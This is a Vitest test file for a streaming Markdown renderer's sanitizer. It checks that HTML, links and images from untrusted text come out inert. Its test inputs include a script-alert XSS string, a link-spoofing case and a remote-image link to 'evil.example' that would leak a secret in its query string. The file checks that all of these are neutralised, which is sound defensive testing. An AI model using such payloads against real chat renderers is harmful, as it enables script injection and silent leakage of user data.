import { afterEach, describe, expect, test, vi } from "vitest";

import { ATTACKS } from "./attacks.fixture";
import { rendered, StreamedMarkdown } from "./streamed";

const TAGS = new Set(
  "P BR HR STRONG EM B I U S DEL INS MARK SMALL CODE PRE KBD SUB SUP SPAN DIV A IMG H1 H2 H3 H4 H5 H6 UL OL LI BLOCKQUOTE TABLE THEAD TBODY TR TH TD FIGURE FIGCAPTION BUTTON".split(
    " ",
  ),
);
const ATTRIBUTES = new Set(["href", "title", "class", "src", "alt", "start", "rel", "target", "tabindex", "aria-label", "role", "type"]);
const CLASSES = /^(?:(?:md|language|hljs)[\w+#.-]*|code|code-head|code-copy)$/;

/** Everything in it that could do something. */
function dangersIn(root: ParentNode): string[] {
  return [...root.querySelectorAll("*")].flatMap((element) => {
    const found = TAGS.has(element.tagName) ? [] : [`<${element.tagName}>`];
    for (const { name, value } of element.attributes) {
      if (!ATTRIBUTES.has(name)) found.push(`${element.tagName} ${name}`);
      if (name === "href" && !/^(https?:\/\/[^/]|mailto:)/.test(value)) found.push(`href ${value}`);
      if (name === "src" && !/^data:image\/(png|jpeg|gif|webp);base64,[\w+/=\s]+$/.test(value)) found.push(`src ${value}`);
    }
    for (const name of element.classList) if (!CLASSES.test(name)) found.push(`class ${name}`);
    if (element instanceof HTMLAnchorElement && (element.rel !== "noopener noreferrer nofollow" || element.target !== "_blank")) {
      found.push("a link without rel");
    }
    return found;
  });
}

function htmlOf(text: string): string {
  const holder = document.createElement("div");
  holder.append(rendered(text));
  return holder.innerHTML;
}

function streamed(text: string, pieces: number): HTMLElement {
  const root = document.createElement("div");
  const drawing = new StreamedMarkdown(root);
  const step = Math.max(1, Math.ceil(text.length / pieces));
  for (let end = step; end < text.length; end += step) drawing.update(text.slice(0, end), false);
  drawing.update(text, true);
  return root;
}

afterEach(() => vi.restoreAllMocks());

describe("untrusted text", () => {
  test("there are enough attacks to test", () => {
    expect(new Set(ATTACKS).size).toBeGreaterThanOrEqual(300);
  });

  test("nothing active survives in the complete text", { timeout: 60_000 }, () => {
    const alarm = vi.spyOn(window, "alert").mockImplementation(() => undefined);
    for (const attack of ATTACKS) expect([attack, dangersIn(rendered(attack))]).toEqual([attack, []]);
    expect(alarm).not.toHaveBeenCalled();
  });

  test("nothing active appears at any moment while it streams", { timeout: 60_000 }, () => {
    for (const attack of ATTACKS) {
      const root = document.createElement("div");
      const drawing = new StreamedMarkdown(root);
      for (const part of [0.5, 0.9]) {
        const come = attack.slice(0, attack.length * part);
        drawing.update(come, false);
        expect([come, dangersIn(root)]).toEqual([come, []]);
      }
    }
  });

  test("markup stays visible as text", () => {
    expect(rendered(`see <script>alert(1)</script>`).textContent).toContain("see <script>alert(1)</script>");
    expect(rendered(`<div class="question">Allow?</div>`).textContent).toContain(`<div class="question">`);
  });

  test("tags without attributes may pass", () => {
    expect(htmlOf("a<br>b <kbd>K</kbd>")).toContain("a<br>b <kbd>K</kbd>");
  });
});

describe("links and pictures", () => {
  test("a link shows its destination", () => {
    const fragment = rendered("[click](https://evil.example/a?b)");
    expect(fragment.querySelector("a")?.href).toBe("https://evil.example/a?b");
    expect(fragment.querySelector(".md-host")?.textContent).toBe("evil.example");
  });

  test("link text that names another address does not hide the real one", () => {
    expect(rendered("[https://good.example](https://evil.example)").querySelector(".md-host")?.textContent).toBe("evil.example");
    expect(rendered("[x](https://good.example@evil.example/)").querySelector(".md-host")?.textContent).toBe("evil.example");
  });

  test("a bare address is not shown twice", () => {
    expect(rendered("https://a.example/x").querySelector(".md-host")).toBeNull();
  });

  test("anything that is not a web address does not become a link", () => {
    const fragment = rendered("[main.py](src/main.py) and [x](//evil.example)");
    expect(fragment.querySelector("a")).toBeNull();
    expect(fragment.querySelector(".md-path")?.textContent).toBe("main.py");
  });

  test("a remote image is named, not fetched", () => {
    const fragment = rendered("![a chart](https://evil.example/?q=SECRET)");
    expect(fragment.querySelector("img")).toBeNull();
    expect(fragment.textContent).toContain("Remote image blocked: a chart");
  });

  test("an inline image is shown", () => {
    expect(rendered("![dot](data:image/png;base64,AAAA)").querySelector("img")?.alt).toBe("dot");
  });
});

describe("streaming", () => {
  const text =
    "# Title\n\nSome **bold** words and `code`.\n\n- one\n- two\n\n  still two\n\n1. first\n2. second\n\n" +
    "```js\nconst a = 1;\n\nconst b = 2;\n```\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n> quoted\n> more\n\nThe end, [here](https://a.example).";

  test.each([1, 3, 7, 20, 60])("%i pieces give the same result as one", (pieces) => {
    expect(streamed(text, pieces).innerHTML).toBe(htmlOf(text));
  });

  test("Windows line endings make no difference", () => {
    expect(streamed(text.replaceAll("\n", "\r\n"), 11).innerHTML).toBe(htmlOf(text));
  });

  test("finished blocks are never drawn again", () => {
    const root = document.createElement("div");
    const drawing = new StreamedMarkdown(root);
    drawing.update("first\n\nsecond\n\nthird\n\nfourth", false);
    const first = root.firstElementChild;
    drawing.update("first\n\nsecond\n\nthird\n\nfourth and more\n\nfifth", false);
    drawing.update("first\n\nsecond\n\nthird\n\nfourth and more\n\nfifth", true);
    expect(root.firstElementChild).toBe(first);
  });

  test("unfinished emphasis is shown as emphasis", () => {
    const root = document.createElement("div");
    new StreamedMarkdown(root).update("this is **bo", false);
    expect(root.querySelector("strong")?.textContent).toBe("bo");
  });

  test("growing code keeps its element", () => {
    const root = document.createElement("div");
    const drawing = new StreamedMarkdown(root);
    drawing.update("```py\na = 1\n", false);
    const pre = root.querySelector("pre");
    drawing.update("```py\na = 1\nb = 2\n", false);
    drawing.update("```py\na = 1\nb = 2\n```\n", true);
    expect(root.querySelector("pre")).toBe(pre);
    expect(pre?.textContent).toBe("a = 1\nb = 2");
    expect(root.querySelector(".code-head")?.textContent).toContain("py");
  });

  test("a text that seemed finished may continue anywhere", { timeout: 60_000 }, () => {
    const whole = htmlOf(text);
    for (let cut = 4; cut < text.length; cut += 23) {
      const root = document.createElement("div");
      const drawing = new StreamedMarkdown(root);
      drawing.update(text.slice(0, cut), true);
      drawing.update(text.slice(0, cut + 5), true);
      drawing.update(text, true);
      expect(root.innerHTML).toBe(whole);
    }
  });

  test("a replaced text is drawn again", () => {
    const root = document.createElement("div");
    const drawing = new StreamedMarkdown(root);
    drawing.update("one\n\ntwo\n\nthree\n\nfour", false);
    drawing.update("other", true);
    expect(root.textContent?.trim()).toBe("other");
  });

  test("links defined at the end work throughout", () => {
    const root = streamed("see [the docs][d]\n\nmore\n\nmore\n\nmore\n\n[d]: https://docs.example/", 20);
    expect(root.querySelector("a")?.href).toBe("https://docs.example/");
  });

  test("a huge paragraph is shown as plain text", () => {
    const root = document.createElement("div");
    const text = "*a ".repeat(100_000);
    new StreamedMarkdown(root).update(text, true);
    expect(root.textContent).toContain(text);
  });
});
